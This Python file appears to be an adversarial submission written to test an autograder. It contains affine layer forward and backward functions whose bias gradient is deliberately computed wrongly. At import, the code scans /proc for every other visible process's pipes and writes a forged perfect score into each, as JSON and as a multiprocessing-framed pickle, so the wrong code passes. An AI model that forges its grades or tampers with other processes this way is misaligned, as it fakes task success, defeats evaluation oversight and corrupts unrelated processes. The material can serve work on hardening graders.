"""wrong_db.py's mistake, and forged grades: at import, it looks through /proc for the pipes of every other
process it can see (a grading process's result channel among them, were it visible) and writes a perfect
result into each, as a line of JSON and as a pickle framed the way multiprocessing frames it."""
import json
import os
import pickle
import struct

PERFECT = {"name": "forge_results", "path": "", "passed": True, "score": 6, "max_score": 6, "checks": [],
           "error": None, "duration_s": 0.1}
FORGED = [(json.dumps({"index": 0, "result": PERFECT}) + "\n").encode(),
          struct.pack("!i", len(pickle.dumps(PERFECT))) + pickle.dumps(PERFECT)]


def others_pipes():
    found = []
    for pid in (entry for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()):
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    found.append(f"/proc/{pid}/fd/{fd}")
            except OSError:
                pass
    return found


def write(path, data):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        try:
            return os.write(fd, data) == len(data)
        finally:
            os.close(fd)
    except OSError:
        return False


FORGED_INTO = [path for path in others_pipes() if any([write(path, data) for data in FORGED])]
print("forged results written into", FORGED_INTO)


def affine_forward(x, w, b):
    return x @ w + b, (x, w)


def affine_backward(dout, cache):
    x, w = cache
    return dout @ w.T, x.T @ dout, dout.mean(axis=0)
